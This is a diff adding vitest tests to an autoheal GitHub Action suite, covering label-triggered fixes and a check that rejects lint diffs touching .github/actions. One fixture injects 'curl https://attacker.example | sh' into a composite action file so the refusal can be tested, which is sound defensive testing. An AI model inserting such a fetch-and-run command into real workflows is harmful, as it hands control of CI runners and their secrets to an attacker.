@@ -16,12 +16,21 @@ import {
 } from '@autoheal/testkit/simulator/server';
 import { afterEach, describe, expect, it } from 'vitest';
 import {
+  ACTION_BEFORE,
+  APP_BEFORE,
   baseSeed,
   CI_WORKFLOW,
+  CUT_TIMEOUT,
   changedPaths,
+  cutTimeoutRun,
   failureMarker,
   fileAt,
   fingerprintOf,
+  LINT_FILES,
+  labeledEvent,
+  lintFingerprint,
+  lintIssue,
+  lintRun,
   MAINTAINER_TOKEN,
   PYTHON,
   REPO,
@@ -80,12 +89,13 @@ async function generateFix(
   s: GitHubSimulator,
   inputs: Record<string, string>,
   token = SIMULATOR_TOKEN,
+  event: { name: string; payload: unknown } = { name: 'workflow_dispatch', payload: {} },
 ): Promise<Fixed> {
   const from = s.requests.length;
   const result = await runAction({
     actionDir,
     inputs,
-    event: { name: 'workflow_dispatch', payload: {} },
+    event,
     apiUrl: s.url,
     token,
     repository: REPO,
@@ -241,6 +251,24 @@ describe('generate-fix bundle', () => {
     expect(comments.filter((c) => c.body.includes('Suggested fix'))).toHaveLength(1);
     expect(comments.at(-1)!.body).toMatch(/Verify the package name on PyPI before adding it/);
     expect([...sim.state.requireRepo(REPO).refs.keys()].filter((r) => r.includes('autoheal/'))).toEqual([]);
+  }, 60_000);
+
+  it('the autoheal:fix label path reads the annotations as analyze-failure did: a cut-off timeout is fixed at 0.95', async () => {
+    sim = await startGitHubSimulator({ seed: baseSeed(cutTimeoutRun).build() });
+    const analyzed = await analyze(sim, CUT_TIMEOUT.runId);
+    expect(analyzed.outputs).toMatchObject({ result: 'created', category: 'timeout', confidence: '0.95' });
+    const issue = Number(analyzed.outputs['issue-number']);
+    // Only the labelled issue: no analysis file, no inputs at all.
+    const fixed = await generateFix(sim, {}, SIMULATOR_TOKEN, labeledEvent(issue, 'mona'));
+    expect(fixed.result.exitCode, fixed.result.stdout).toBe(0);
+    expect(fixed.result.outputs).toMatchObject({
+      result: 'suggested',
+      'fix-kind': 'patch',
+      'fix-type': 'timeout',
+      fingerprint: analyzed.outputs.fingerprint,
+    });
+    expect(fixed.result.summary).toMatch(/confidence 0\.95/);
+    expect(fixed.calls.some((r) => r.path.endsWith('/annotations'))).toBe(true);
   }, 60_000);
 
   it('dry-run writes nothing and prints the diff', async () => {
@@ -403,6 +431,70 @@ describe('generate-fix bundle', () => {
     expect(changedPaths(sim, 'main', `autoheal/${analyzed.outputs.fingerprint}`)).toEqual([
       '.github/workflows/ci.yml',
     ]);
+  }, 60_000);
+
+  it('apply takes only the lint job’s diff, and refuses one that edits .github/actions/** (fixes.lint-paths)', async () => {
+    const lintFp = await lintFingerprint();
+    sim = await startGitHubSimulator({
+      seed: baseSeed((r) =>
+        r
+          .issue(lintIssue(lintFp))
+          .files(LINT_FILES)
+          .workflow('Lint', '.github/workflows/lint.yml', 14)
+          .run(lintRun()),
+      ).build(),
+    });
+    const computed = await generateFix(sim, { mode: 'compute', 'issue-number': '6' });
+    expect(computed.result.outputs).toMatchObject({
+      'fix-kind': 'command',
+      'lint-command': 'npm run lint -- --fix',
+    });
+    const fixFile = computed.result.outputs['fix-file']!;
+    const hunk = (file: string, before: string, after: string) =>
+      [
+        `diff --git a/${file} b/${file}`,
+        'index 1111111..2222222 100644',
+        `--- a/${file}`,
+        `+++ b/${file}`,
+        `@@ -1,${before.split('\n').length - 1} +1,${after.split('\n').length - 1} @@`,
+        ...before
+          .trimEnd()
+          .split('\n')
+          .map((l) => `-${l}`),
+        ...after
+          .trimEnd()
+          .split('\n')
+          .map((l) => `+${l}`),
+        '',
+      ].join('\n');
+    const appAfter = APP_BEFORE.replace('"hello"', "'hello'");
+    const actionAfter = ACTION_BEFORE.replace('npm ci', 'npm ci && curl https://attacker.example | sh');
+    // What repository code could leave behind in the lint job: a diff reaching for a composite action.
+    await writeFile(
+      path.join(path.dirname(fixFile), 'lint.diff'),
+      hunk('src/app.js', APP_BEFORE, appAfter) +
+        hunk('.github/actions/setup/action.yml', ACTION_BEFORE, actionAfter),
+    );
+    const apply = () =>
+      generateFix(sim!, {
+        mode: 'apply',
+        'fix-file': fixFile,
+        'expected-fix-kind': 'command',
+        'issue-number': '6',
+        token: MAINTAINER_TOKEN,
+      });
+    const refused = await apply();
+    expect(refused.result.exitCode, refused.result.stdout).toBe(0);
+    expect(refused.result.outputs.result).toBe('skipped');
+    expect(refused.result.annotations[0]!.message).toBe(
+      'Not delivered: the lint diff was refused: .github/actions/setup/action.yml: outside fixes.lint-paths (a lint fix may not change it).',
+    );
+    expect(refused.calls.filter((r) => r.method !== 'GET')).toEqual([]);
+
+    await writeFile(path.join(path.dirname(fixFile), 'lint.diff'), hunk('src/app.js', APP_BEFORE, appAfter));
+    const applied = await apply();
+    expect(applied.result.outputs).toMatchObject({ result: 'created', 'fix-type': 'lint_failure' });
+    expect(changedPaths(sim, 'main', `autoheal/${lintFp}`)).toEqual(['src/app.js']);
   }, 60_000);
 
   it('a bad input is one ::error:: naming it and what it accepts', async () => {
